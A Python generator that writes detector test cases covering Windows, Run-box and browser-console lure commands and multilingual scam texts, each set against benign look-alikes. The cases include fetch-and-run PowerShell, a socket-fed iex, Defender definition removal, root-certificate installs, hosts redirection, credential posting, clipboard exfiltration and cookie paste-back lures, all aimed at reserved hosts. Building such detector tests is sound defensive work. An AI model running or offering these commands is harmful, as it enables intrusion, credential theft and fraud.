"""Writes tests/data/cases/b5win.jsonl: Windows, browser-console and text lure techniques that a
fifth blind set found missing, each written here in our own variants beside the everyday texts
that look like them and must stay quiet.

    python tests/data/cases/make_b5win.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24); phone numbers are fictitious (555 ranges). No text is copied from a lure
collection, an IOC file, another detector's fixtures or the blind sets. Each line is
{id, text, expect, technique, platform[, source], target}.

Techniques:

- `win-foreign-feed`: software installed and run from a package feed on a stranger's web
  address (winget configure of a remote file, Register-PSRepository then Install-Module, dotnet
  tool / nuget / choco with a feed URL, then the tool run). Look-alikes: the public registries,
  an organisation's feed on Azure Artifacts or GitHub Packages, a feed set up without installing.
- `win-remote-login`: Remote Desktop (or WinRM, OpenSSH) switched on and an administrator with a
  chosen password created for a "support session". Look-alikes: an admin enabling RDP on their
  own box, adding their own domain account to Remote Desktop Users, creating a standard user.
- `win-traffic-redirect`: hosts file entries at an outside address, a proxy script (PAC) from
  the web, DNS servers set to a stranger's address. Look-alikes: loopback and 0.0.0.0 entries,
  a lab server on the local network, public resolvers, reading the proxy settings.
- `win-root-cert`: a certificate added to the trusted root store, downloaded or not.
  Look-alikes: a certificate in the personal store, listing the root store, dev-certs.
- `win-credential-prompt`: a Get-Credential prompt whose answer is posted away. Look-alikes:
  Get-Credential used for a remote session or a service.
- `win-defender-definitions`: Defender's definitions removed before a download runs.
- `runbox-share-load`, `runbox-office-uri`, `runbox-clickonce`, `runbox-appx-url`,
  `runbox-ftp-script`, `runbox-wuauclt`, `runbox-ps-network-iex`: system tools that load code
  or settings from another computer's share or the web, pasted in the Run box (bare too).
  Look-alikes: the same tools on local files.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b5win.jsonl")
STRANGER = "https://www.garden-rota.example/allotments"
SUPPORT = "https://help.desk-remote-care.invalid/session"
ADMIN_DOCS = "https://learn.contoso-it.example/windows/admin-guide"
CONSOLE = "browser_console"


class Book(casefile.Book):
    def __init__(self) -> None:
        super().__init__("b5w")

    def both(self, technique: str, text: str, expect: str, target: str, source: str) -> None:
        """A lure in its context (`expect`), and bare: at least flagged."""
        self.add(technique, text, expect, "windows", target, source)
        self.add(technique, text, "flagged", "windows", "unknown")


# ---- Windows Terminal: handing the computer over ----------------------------------------------
FEEDS = ("https://feed.tool-share.test/v3/index.json", "https://pkgs.helper-kit.invalid/nuget")


def foreign_feed(book: Book) -> None:
    for feed in FEEDS:
        for text in (
            f"winget configure -f {feed.replace('/v3/index.json', '/setup.dsc.yaml').replace('/nuget', '/ws.winget')} --accept-configuration-agreements",
            f"winget configure --file {feed.rsplit('/', 1)[0]}/team.dsc.yaml --disable-interactivity --accept-configuration-agreements",
            f"Register-PSRepository -Name Desk -SourceLocation {feed} -InstallationPolicy Trusted; Install-Module DeskFix -Repository Desk -Force; Start-DeskFix",
            f'Register-PSResourceRepository -Name Fix -Uri "{feed}" -Trusted; Install-PSResource PrinterFix -Repository Fix; Repair-Printer',
            f"dotnet tool install --global InterviewKit --add-source {feed}; interview-kit begin",
            f"dotnet tool update -g Codecheck --add-source {feed} && codecheck --submit",
            f"choco install remotefix -y --source {feed}; remotefix.exe /start",
            f"nuget install DriverTool -Source {feed} -OutputDirectory $env:TEMP; & $env:TEMP\\DriverTool\\tools\\run.exe",
        ):
            book.both("win-foreign-feed", text, "malicious", "terminal", STRANGER)
    for text in (
        "winget install --id Microsoft.PowerToys -e --source winget",
        "winget configure -f .\\configuration.dsc.yaml",
        "winget configure --file C:\\dev\\setup\\configuration.winget --accept-configuration-agreements",
        "Register-PSRepository -Name Internal -SourceLocation https://pkgs.dev.azure.com/contoso/_packaging/ps/nuget/v2 -InstallationPolicy Trusted; Install-Module Contoso.Tools -Repository Internal; Get-ContosoInfo",
        "Register-PSRepository -Name Local -SourceLocation \\\\files01\\psrepo -InstallationPolicy Trusted",
        "Install-Module PSReadLine -Scope CurrentUser -Force; Import-Module PSReadLine",
        "dotnet tool install --global dotnet-ef",
        "dotnet tool install -g Contoso.Cli --add-source https://nuget.pkg.github.com/contoso/index.json; contoso --version",
        "dotnet nuget add source https://pkgs.dev.azure.com/fabrikam/_packaging/feed/nuget/v3/index.json -n fabrikam",
        "choco install git -y; git --version",
        "nuget install Newtonsoft.Json -OutputDirectory packages",
        "Register-PSRepository -Default",
    ):
        book.add("win-foreign-feed", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def remote_login(book: Book) -> None:
    enable = (
        "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        "Enable-PSRemoting -SkipNetworkProfileCheck -Force",
        'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
    )
    users = (
        ("net user support7 Helpdesk!55 /add", "net localgroup administrators support7 /add"),
        (
            "New-LocalUser -Name svc_help -Password (ConvertTo-SecureString 'Fix#2026' -AsPlainText -Force)",
            "Add-LocalGroupMember -Group Administrators -Member svc_help",
        ),
        (
            "net user remotetech Tech2026x /add /y",
            'net localgroup "Remote Desktop Users" remotetech /add',
        ),
    )
    for on in enable:
        for make, grant in users:
            book.both(
                "win-remote-login", f"{on}; {make}; {grant}", "malicious", "terminal", SUPPORT
            )
    for make, grant in users:
        book.add("win-new-admin", f"{make} && {grant}", "flagged", "windows", "terminal", SUPPORT)
    for text in (
        *enable,
        "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
        "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CONTOSO\\jdoe'",
        "net user guestkiosk /add /active:yes",
        "net localgroup administrators",
        "New-LocalUser -Name kiosk -NoPassword; Add-LocalGroupMember -Group Users -Member kiosk",
        "Get-LocalGroupMember -Group Administrators",
    ):
        book.add("win-remote-login", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def traffic_redirect(book: Book) -> None:
    hosts = "$env:windir\\System32\\drivers\\etc\\hosts"
    for text in (
        f'Add-Content {hosts} "`n198.51.100.77 www.mybank-online.test"',
        "Add-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value '203.0.113.45 login.payments.example'",
        "echo 198.51.100.9 secure.credit-union.test >> %windir%\\System32\\drivers\\etc\\hosts",
        f'"203.0.113.8 accounts.mail-provider.example" | Out-File -Append -Encoding ascii {hosts}',
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings' -Name AutoConfigURL -Value 'http://198.51.100.61/proxy.pac'",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v AutoConfigURL /t REG_SZ /d https://cfg.route-fast.invalid/w.pac /f',
        "Set-DnsClientServerAddress -InterfaceAlias Wi-Fi -ServerAddresses 203.0.113.53,198.51.100.53",
        'netsh interface ip set dns name="Ethernet" static 198.51.100.35',
    ):
        book.both("win-traffic-redirect", text, "flagged", "terminal", STRANGER)
    for text in (
        f'Add-Content {hosts} "`n127.0.0.1 myapp.local"',
        "echo 0.0.0.0 ads.tracker.example >> C:\\Windows\\System32\\drivers\\etc\\hosts",
        f'Add-Content {hosts} "192.168.1.20 nas.home"',
        f"Get-Content {hosts}",
        "notepad C:\\Windows\\System32\\drivers\\etc\\hosts",
        "Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 1.1.1.1,1.0.0.1",
        "Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses 10.0.0.2",
        "Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings' | Select AutoConfigURL, ProxyServer",
        "netsh winhttp show proxy",
        "ipconfig /flushdns && ipconfig /registerdns",
    ):
        book.add("win-traffic-redirect", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def root_cert(book: Book) -> None:
    for text in (
        "iwr https://pki.safe-browse.test/ca.cer -OutFile $env:TEMP\\ca.cer; Import-Certificate -FilePath $env:TEMP\\ca.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
        "curl.exe -so %TEMP%\\r.crt https://203.0.113.80/r.crt & certutil -addstore -f Root %TEMP%\\r.crt",
        "(New-Object Net.WebClient).DownloadFile('https://trust.vpn-helper.invalid/root.cer', \"$env:TEMP\\root.cer\"); certutil -user -addstore Root $env:TEMP\\root.cer",
    ):
        book.both("win-root-cert", text, "malicious", "terminal", STRANGER)
    for text in (
        "Import-Certificate -FilePath .\\inspect.cer -CertStoreLocation Cert:\\CurrentUser\\Root",
        "certutil -decode fabrikam-ca.b64 fabrikam-ca.cer && certutil -addstore -user Root fabrikam-ca.cer",
    ):
        book.add("win-root-cert", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)
    for text in (
        "Import-PfxCertificate -FilePath .\\client.pfx -CertStoreLocation Cert:\\CurrentUser\\My -Password $pw",
        "Get-ChildItem Cert:\\LocalMachine\\Root | Where-Object Subject -like '*Contoso*'",
        "dotnet dev-certs https --trust",
        "certutil -store root",
        "Import-Certificate -FilePath .\\codesign.cer -CertStoreLocation Cert:\\CurrentUser\\TrustedPublisher",
    ):
        book.add("win-root-cert", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def credential_prompt(book: Book) -> None:
    for text in (
        "$c = Get-Credential -Message 'Your session expired. Sign in to continue'; Invoke-RestMethod https://sso-check.relay.invalid/p -Method Post -Body (@{u=$c.UserName;p=$c.GetNetworkCredential().Password}|ConvertTo-Json)",
        "$cr=$Host.UI.PromptForCredential('Windows Security','Enter your password to update Outlook','',''); iwr https://198.51.100.12/s -Method POST -Body \"$($cr.UserName):$($cr.GetNetworkCredential().Password)\"",
        "$k = Get-Credential; (New-Object Net.WebClient).UploadString('https://log.auth-sync.test/c', $k.GetNetworkCredential().Password)",
    ):
        book.both("win-credential-prompt", text, "malicious", "terminal", STRANGER)
    for text in (
        "$cred = Get-Credential; Enter-PSSession -ComputerName srv01 -Credential $cred",
        "$c = Get-Credential CONTOSO\\svc_backup; New-PSDrive -Name B -PSProvider FileSystem -Root \\\\backup01\\share -Credential $c",
        "$cred = Get-Credential; Invoke-RestMethod https://api.contoso.example/token -Credential $cred",
    ):
        book.add("win-credential-prompt", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def defender_definitions(book: Book) -> None:
    for text in (
        '& "C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All; iwr https://upd.tools-relay.test/a.ps1 | iex',
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -DynamicSignatures & powershell -c "irm https://198.51.100.14/x | iex"',
    ):
        book.both("win-defender-definitions", text, "malicious", "terminal", STRANGER)
    for text in (
        '& "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate',
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 1',
    ):
        book.add("win-defender-definitions", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


# ---- Run box: system tools that load from elsewhere -----------------------------------------
RUNBOX_PAGE = "https://check.human-gate.invalid/verify"


def runbox(book: Book) -> None:
    lures = {
        "runbox-share-load": (
            "netsh add helper \\\\203.0.113.31\\pub\\nh.dll",
            "netsh.exe add helper \\\\tools.share-box.test\\n\\helper64.dll",
            "reg import \\\\198.51.100.19\\cfg\\fix-display.reg",
            'reg.exe import "\\\\settings.fix-hub.invalid\\pub\\audio.reg"',
            "pnputil /add-driver \\\\drivers.hw-fix.test\\d\\cam.inf /install",
            "pnputil.exe -i -a \\\\203.0.113.90\\drv\\usb.inf",
            "rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 \\\\inf.box-share.test\\s\\w.inf",
            "rundll32.exe setupapi,InstallHinfSection DefaultInstall 128 \\\\198.51.100.44\\x\\setup.inf",
            "cmd /c type \\\\203.0.113.70\\pub\\c.txt | cmd",
            "cmd.exe /k type \\\\notes.relay-box.invalid\\s\\run.txt|powershell -",
        ),
        "runbox-office-uri": (
            "ms-word:ofe|u|https://docs.review-share.test/Contract-2026.docm",
            "ms-excel:ofe|u|https://files.sheet-relay.invalid/Q4-bonus.xlsm",
            "ms-powerpoint:ofv|u|http://198.51.100.50/deck.pptm",
        ),
        "runbox-clickonce": (
            "cmd /c start https://apps.oneclick-share.test/Viewer.application",
            "rundll32 dfshim.dll,ShOpenVerbApplication https://deploy.click-run.invalid/Setup.application",
        ),
        "runbox-appx-url": (
            "powershell -c \"Add-AppxPackage -Uri 'https://pkg.app-drop.test/Helper_1.0_x64.msix'\"",
            "powershell Add-AppxPackage -AppInstallerFile https://dist.app-relay.invalid/Viewer.appinstaller",
            "powershell -c Add-AppxPackage -Path https://198.51.100.71/c.msixbundle",
        ),
        "runbox-ftp-script": (
            'cmd /c "echo open 198.51.100.33>%temp%\\s.txt&echo anonymous>>%temp%\\s.txt&echo pw>>%temp%\\s.txt&echo get tool.exe %temp%\\tool.exe>>%temp%\\s.txt&echo quit>>%temp%\\s.txt&ftp -s:%temp%\\s.txt&%temp%\\tool.exe"',
            'cmd /c "(echo open ftp.files-relay.test&echo user x x&echo binary&echo get p.dll %tmp%\\p.dll&echo bye)>%tmp%\\c.txt&ftp -n -s:%tmp%\\c.txt&rundll32 %tmp%\\p.dll,Go"',
        ),
        "runbox-wuauclt": (
            "wuauclt /UpdateDeploymentProvider \\\\203.0.113.12\\s\\u.dll /RunHandlerComServer",
            "wuauclt.exe /UpdateDeploymentProvider C:\\Users\\Public\\wu.dll /RunHandlerComServer",
        ),
        "runbox-ps-network-iex": (
            "powershell -w h -c \"$t=New-Object System.Net.Sockets.TcpClient('198.51.100.81',443);$s=New-Object IO.StreamReader($t.GetStream());iex $s.ReadToEnd()\"",
            "powershell -c \"$d=New-Object System.Xml.XmlDocument;$d.Load('https://news.feed-relay.test/rss');iex $d.rss.channel.item[0].title\"",
            "powershell -w h -c \"$ie=New-Object -Com InternetExplorer.Application;$ie.Navigate2('https://203.0.113.5/t.txt');while($ie.Busy){sleep 1};iex $ie.Document.body.innerText\"",
        ),
    }
    for technique, texts in lures.items():
        for text in texts:
            book.add(technique, text, "malicious", "windows", "run_dialog", RUNBOX_PAGE)
            book.add(technique, text, "flagged", "windows", "unknown")
    for text in (
        "netsh advfirewall show allprofiles",
        "reg import C:\\Users\\me\\Desktop\\terminal-colors.reg",
        "pnputil /add-driver C:\\Drivers\\net\\e1d.inf /install",
        "pnputil /enum-drivers /class Display",
        "rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\\Fonts\\fonts.inf",
        "type C:\\logs\\setup.log | more",
        "Add-AppxPackage -Path .\\Contoso.Notes_2.1.0_x64.msix",
        "ftp ftp.contoso.example",
        "wuauclt /detectnow",
        "$d = New-Object System.Xml.XmlDocument; $d.Load('C:\\config\\app.xml'); $d.configuration.appSettings",
        "ms-word:ofv|u|https://contoso.sharepoint.com/sites/hr/Shared%20Documents/Handbook.docx",
    ):
        book.add("runbox-share-load", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


# ---- browser console -------------------------------------------------------------------------
CLAIM_PAGE = "https://www.reward-unlock.example/claim"
DEV_PAGE = "https://developer.web-platform.example/docs/api"


def console(book: Book) -> None:
    lures = {
        "console-fetched-code-run": (
            "$.get('https://cdn.unlock-kit.test/p.js', c => jQuery.globalEval(c))",
            "jQuery.ajax({url: 'https://198.51.100.66/s.js', dataType: 'text'}).done(t => $.globalEval(t))",
            "fetch('https://boost.stage-relay.invalid/m').then(r => r.text()).then(src => Reflect.construct(Function, [src])())",
            "fetch('//code.panel-tools.test/x').then(r=>r.text()).then(b=>{const f=Reflect.construct(Function,['',b]);f()})",
            "const ws = new WebSocket('wss://live.helper-sync.test/c'); ws.onmessage = m => eval(m.data)",
            "new WebSocket('wss://203.0.113.7:8443/').addEventListener('message', ev => { new Function(ev.data)() })",
            "WebAssembly.instantiateStreaming(fetch('https://mods.game-boost.test/x.wasm'), {env: {exec: s => eval(s)}})",
            "WebAssembly.instantiateStreaming(fetch('https://198.51.100.90/core.wasm'), {js: {run(c) { new Function(c)() }}}).then(o => o.instance.exports.start())",
        ),
        "console-img-onerror-script": (
            "document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror=\"let s=document.createElement(`script`);s.src=`https://img-stage.tools-cdn.test/a.js`;document.body.appendChild(s)\">')",
            "document.getElementById('app').innerHTML = `<img src=x onerror=\"var e=document.createElement('script');e.src='//198.51.100.3/l.js';document.head.appendChild(e)\">`",
        ),
        "console-clipboard-sent": (
            "navigator.clipboard.readText().then(t => fetch('https://collect.clip-sync.test/in', {method: 'POST', body: t}))",
            "const c = await navigator.clipboard.readText(); new Image().src = 'https://203.0.113.44/p?d=' + encodeURIComponent(c)",
            "navigator.clipboard.readText().then(x => navigator.sendBeacon('//paste-log.relay.invalid/b', x))",
        ),
        "console-tron-transfer": (
            "tronWeb.trx.sendTransaction('TLs9PqVjWd2Hq7n4zR8cYxK3mB5vA6eGfU', 180000000)",
            "await tronWeb.trx.sendTrx(\"TXq7r2Nw8KzP3mVb5cYdL4hJ9sA6eFgU1o\", 5e8); alert('Airdrop claimed!')",
        ),
    }
    for technique, texts in lures.items():
        for text in texts:
            book.add(technique, text, "malicious", "browser", CONSOLE, CLAIM_PAGE)
            book.add(technique, text, "flagged", "browser", "unknown")
    for text in (
        "const ws = new WebSocket('wss://echo.websocket.example/'); ws.onmessage = e => console.log(e.data)",
        "ws = new WebSocket('ws://localhost:8080/live'); ws.onmessage = (m) => render(JSON.parse(m.data))",
        "WebAssembly.instantiateStreaming(fetch('/wasm/add.wasm')).then(({instance}) => console.log(instance.exports.add(2, 3)))",
        "const {instance} = await WebAssembly.instantiateStreaming(fetch('simple.wasm'), {imports: {log: x => console.log(x)}})",
        "jQuery.globalEval('var answer = 42;'); console.log(answer)",
        "$.get('/api/items', data => console.table(data))",
        "Reflect.construct(Date, [2026, 0, 1])",
        "const f = Reflect.construct(Function, ['a', 'b', 'return a + b']); f(2, 3)",
        "navigator.clipboard.readText().then(t => console.log('clipboard:', t))",
        "navigator.clipboard.writeText(location.href)",
        'document.body.innerHTML += \'<img src="/logo.png" alt="logo">\'',
        "tronWeb.trx.getBalance('TLs9PqVjWd2Hq7n4zR8cYxK3mB5vA6eGfU').then(b => console.log(b / 1e6))",
        "await tronWeb.trx.getTransaction(txid)",
    ):
        book.add("console-fetched-code-run", text, "not_flagged", "browser", CONSOLE, DEV_PAGE)


# ---- texts: scams, callbacks, paste-backs ----------------------------------------------------
SCAM_PAGE = "https://alert.pc-guard-notice.invalid/"
MAIL = "https://mail.inbox-reader.example/message/4471"
PHONES = ("+1 (888) 555-0143", "+44 20 5550 1187", "0800 555 0190", "+27 21 555 0166")

SUPPORT_SCAMS = {
    "af": (
        "WAARSKUWING! Jou rekenaar is geblokkeer omdat spyware gevind is. Moenie jou rekenaar afskakel nie. Skakel Windows-ondersteuning by {p}",
        "U rekening is opgeskort weens verdagte aktiwiteit. Bel ons tolvry hulplyn {p} om dit te herstel.",
    ),
    "et": (
        "Teie arvuti on blokeeritud: tuvastatud viirus varastab teie paroole. Helistage kohe Windowsi toele {p}",
        "Teie pangakonto on ajutiselt lukustatud kahtlase tegevuse tõttu. Helista {p}",
    ),
    "lt": (
        "Jūsų kompiuteris užrakintas: aptiktas virusas. Neišjunkite įrenginio ir skambinkite {p}",
        "Jūsų paskyra buvo užblokuota dėl įtartinos veiklos. Susisiekite su pagalbos linija {p}",
    ),
    "lv": (
        "Jūsu dators ir inficēts! Atklāts vīruss. Neizslēdziet datoru un zvaniet atbalstam {p}",
        "Jūsu konts tika bloķēts aizdomīgas darbības dēļ. Sazinieties ar mums: {p}",
    ),
    "sl": (
        "Vaš računalnik je okužen z virusom in je zaklenjen. Ne zapirajte te strani, pokličite {p}",
        "Vaš račun je bil začasno blokiran zaradi sumljive dejavnosti. Pokličite brezplačno številko {p}",
    ),
    "sr": (
        "UPOZORENJE: Vaš računar je zaražen i blokiran. Ne isključujte ga, pozovite podršku {p}",
        "Ваш рачунар је блокиран. Вирус је откривен. Позовите одмах {p}",
    ),
    "ca": (
        "El vostre ordinador ha estat bloquejat: s'ha detectat un virus. No apagueu l'equip i truqueu al {p}",
        "Alerta de seguretat! El teu compte ha estat suspès. Contacteu amb el servei tècnic: {p}",
    ),
    "sw": (
        "Kompyuta yako imeambukizwa virusi na imefungwa. Usizime kompyuta. Piga simu {p}",
        "Akaunti yako imesimamishwa kwa sababu ya shughuli za kutiliwa shaka. Pigia huduma kwa wateja {p}",
    ),
    "bn": (
        "সতর্কতা! আপনার কম্পিউটার হ্যাক হয়েছে এবং ব্লক করা হয়েছে। এখনই কল করুন {p}",
        "আপনার পিসিতে ভাইরাস ধরা পড়েছে। কম্পিউটার বন্ধ করবেন না, ফোন করুন: {p}",
    ),
    "ta": (
        "எச்சரிக்கை: உங்கள் கணினி பூட்டப்பட்டுள்ளது. உடனே அழைக்கவும் {p}",
        "உங்கள் கணினியில் வைரஸ் உள்ளது. கணினியை அணைக்க வேண்டாம். தொடர்பு கொள்ளவும்: {p}",
    ),
    "ur": (
        "خبردار! آپ کا کمپیوٹر ہیک ہو گیا ہے۔ فوراً کال کریں {p}",
        "آپ کے کمپیوٹر میں وائرس ہے، اسے بند نہ کریں۔ ٹول فری نمبر پر رابطہ کریں: {p}",
    ),
}

CALLBACKS = (
    # renewals and purchases disputed by phone (nl, fr, ja)
    "Uw jaarabonnement McAfee Total Protection is verlengd. Er wordt € 299,99 van uw rekening afgeschreven. Niet akkoord? Bel {p}",
    "Beste klant, uw bestelling van € 749,00 is geplaatst. Klopt dit niet? Bel direct {p}",
    "Votre achat de 899,00 € sur Amazon a été approuvé. Si vous n'êtes pas à l'origine de cette commande, appelez le {p}",
    "Un virement de 2 350,00 € a été enregistré sur votre compte. Si vous n'avez pas fait cette opération, contactez le {p}",
    "ノートン360の年間プランが自動更新され、¥45,800をお支払いいただきました。お心当たりのない場合は {p} までお電話ください。",
    # held transactions and wallets (pl, tr)
    "Wykryto podejrzaną płatność 3 120,00 zł kartą. Płatność została wstrzymana. Zadzwoń do banku: {p}",
    "Cüzdanınızda yetkisiz işlem tespit edildi: 0,42 BTC. Hemen destek hattını arayın {p}",
    # pay by phone or lose the service / the parcel (en, it, de, fr, es)
    "FINAL NOTICE: your gas supply will be disconnected today due to an overdue balance of $286.40. Call {p} to pay and avoid shut-off.",
    "Your package is held at customs: unpaid duty of £3.15. Call {p} within 24 hours or it will be returned to sender.",
    "La sua fornitura di luce sarà sospesa oggi per un insoluto di 148,20 €. Chiami subito il numero {p}",
    "Ihr Paket liegt beim Zoll. Zollgebühr 1,99 € offen. Rufen Sie heute noch an: {p}",
    "Votre colis est retenu en douane : frais de douane de 2,50 €. Appelez le {p} aujourd'hui.",
    "Su paquete está retenido en aduana. Tasas de aduana: 1,95 €. Llame hoy al {p}",
)

GENUINE_MESSAGES = (
    "Thanks for your order #4471-2209 of $84.20. Questions? Call our customer service at {p}, Mon-Fri 9-5.",
    "Your electricity bill of $96.12 is due on 14 January. Pay online in your account or call {p}.",
    "DHL: your parcel 7731-22 is in customs clearance. Duties of €12.40 can be paid online at dhl.example/pay. Questions: {p}",
    "Uw abonnement is verlengd tot 1 maart. Vragen? Onze klantenservice is bereikbaar op {p}.",
    "Votre commande de 45,90 € a été expédiée. Service client : {p}",
    "Il suo pacco arriverà domani. Per informazioni chiami il numero {p}",
    "Telefon: {p} — Wir sind Montag bis Freitag für Sie da.",
    "Kontaktirajte nas na {p} radnim danom od 8 do 16 sati.",
    "Helistage meile {p} tööpäeviti 9-17.",
    "Skambinkite mums {p} darbo dienomis.",
    "Piga simu {p} kwa maswali yoyote kuhusu akaunti yako.",
    "আমাদের অফিসে কল করুন {p} (সকাল ১০টা থেকে সন্ধ্যা ৬টা)।",
    "Watch out: scammers send texts saying your computer is locked with a virus and a number to call like {p}. Never call it.",
    "Opozorilo: prevaranti pošiljajo sporočila, da je vaš računalnik zaklenjen. Ne kličite številke {p}.",
    "Microsoft Support (case #12-5567): our engineer will call you at {p} about your ticket.",
)


def texts(book: Book) -> None:
    for lang, texts_ in SUPPORT_SCAMS.items():
        for i, text in enumerate(texts_):
            p = PHONES[i % len(PHONES)]
            book.add(f"scam-{lang}", text.format(p=p), "flagged", "any", "unknown", SCAM_PAGE)
            book.add(f"scam-{lang}", text.format(p=p), "flagged", "any", "unknown")
    for i, text in enumerate(CALLBACKS):
        p = PHONES[i % len(PHONES)]
        book.add("callback", text.format(p=p), "flagged", "any", "unknown", MAIL)
        book.add("callback", text.format(p=p), "flagged", "any", "other")
    # languages no rule speaks: the brand, the borrowed word for malware and a warning headline
    for text in (
        "AMARAN: Komputer anda telah disekat kerana virus dikesan. Hubungi sokongan Microsoft segera di {p}",
        "VIÐVÖRUN! Tölvan þín er sýkt af vírus. Hringdu strax í Microsoft í síma {p}",
        "BABALA: Na-lock ang computer mo dahil sa virus. Tawagan ang Microsoft sa {p}",
    ):
        book.add("scam-unlisted-language", text.format(p=PHONES[0]), "flagged", "any", "unknown")
    for text in (
        "Microsoft Defender removed a virus from your PC. Questions? Call {p}.",
        "NEWS: Microsoft patches a virus scanner bug; the support line {p} has details.",
        "Our shop repairs PCs: virus removal, Windows installs, Microsoft Office set-up. Call {p}.",
    ):
        book.add(
            "scam-unlisted-language", text.format(p=PHONES[0]), "not_flagged", "any", "unknown"
        )
    for text in (
        "Microsoft Support – ticket 88-1204. Press Ctrl + Win + Q to open Quick Assist, pick 'Get help' and enter the 6-digit code the technician gives you on {p}.",
        "Amazon support case #5561: open Quick Assist and type the security code our agent reads to you at {p}.",
    ):
        book.add(
            "quick-assist-scam", text.format(p=PHONES[0]), "flagged", "any", "unknown", SCAM_PAGE
        )
    for i, text in enumerate(GENUINE_MESSAGES):
        book.add(
            "callback",
            text.format(p=PHONES[i % len(PHONES)]),
            "not_flagged",
            "any",
            "unknown",
            MAIL,
        )
    for text in (
        "Open Quick Assist (Ctrl + Windows + Q), select 'Help someone' and give the code to the person you are helping.",
        "To get help from our IT department, open Quick Assist and enter the code from your help desk ticket.",
    ):
        book.add("quick-assist-scam", text, "not_flagged", "any", "unknown", ADMIN_DOCS)


def paste_backs(book: Book) -> None:
    for text in (
        "Letzter Schritt: Kopieren Sie die Adresse aus der Adressleiste und fügen Sie sie unten ein.\nhttp://localhost:8400/callback?code=M.C538_BL2.2.U.c1a7e0f4-9d3b&state=7731",
        "Bitte fügen Sie die Adresse hier ein: http://127.0.0.1:53682/?code=4f8a1c0e9b7d2a6c5e3f&state=q91",
        "サインイン後、アドレスバーの URL をコピーしてここに貼り付けてください。\nhttp://localhost:3000/auth?code=0.AXkA7hJ2pQ9rLmN4sWt6Yv&state=a1",
        "本人確認のため次の URL を貼り付けてください: http://[::1]:8765/cb?code=9d2f7a1c4e8b6d3f0a5c&state=22",
        "Collez l'adresse complète ici pour terminer : http://[::1]:5173/redirect?code=A1b2C3d4E5f6G7h8I9j0&state=fr",
    ):
        book.add(
            "consentfix-intl",
            text,
            "flagged",
            "any",
            "unknown",
            "https://review.doc-share.invalid/sign",
        )
    for text in (
        "AWS account review: open https://device.sso.eu-west-1.amazonaws.com/ and approve code WQLM-TZRP to give the auditor read-only access.",
        "Billing audit: go to https://d-9067aa11bb.awsapps.com/start/#/device and confirm the code KDPR-XMWT to grant access.",
    ):
        book.add(
            "device-code-aws",
            text,
            "flagged",
            "any",
            "unknown",
            "https://portal.cost-audit.invalid/",
        )
    for text in (
        "Your appeal is almost done: press F12, open Application → Cookies, copy the value of sessionid and paste it in the appeal form below.",
        "To verify the page owner, open DevTools, find the cookie named c_user and send its value to our support agent in the chat.",
        "Ctrl+Shift+I > Application > Cookies > copy 'li_at' and paste it here to unlock your profile.",
    ):
        book.add(
            "cookie-paste-back",
            text,
            "flagged",
            "any",
            "unknown",
            "https://appeal.creator-help.invalid/",
        )
    for text in (
        "Attempting to automatically open the SSO authorization page in your default browser.\nIf the browser does not open or you wish to use a different device to authorize this request, open the following URL:\n\nhttps://device.sso.us-west-2.amazonaws.com/\n\nThen enter the code:\n\nTQWZ-PLKM",
        "To debug the login, open DevTools > Application > Cookies and check that the sessionid cookie has HttpOnly and SameSite=Lax set.",
        "Never paste your session cookie into a form or send it to support: anyone who has it is signed in as you.",
        "The app redirects to http://localhost:8080/callback?code=AUTH_CODE&state=STATE, where your server exchanges the code at the token endpoint.",
    ):
        book.add("paste-back", text, "not_flagged", "any", "unknown", DEV_PAGE)


def build() -> list[dict[str, str]]:
    book = Book()
    foreign_feed(book)
    remote_login(book)
    traffic_redirect(book)
    root_cert(book)
    credential_prompt(book)
    defender_definitions(book)
    runbox(book)
    console(book)
    texts(book)
    paste_backs(book)
    ids = [c["id"] for c in book.cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return book.cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
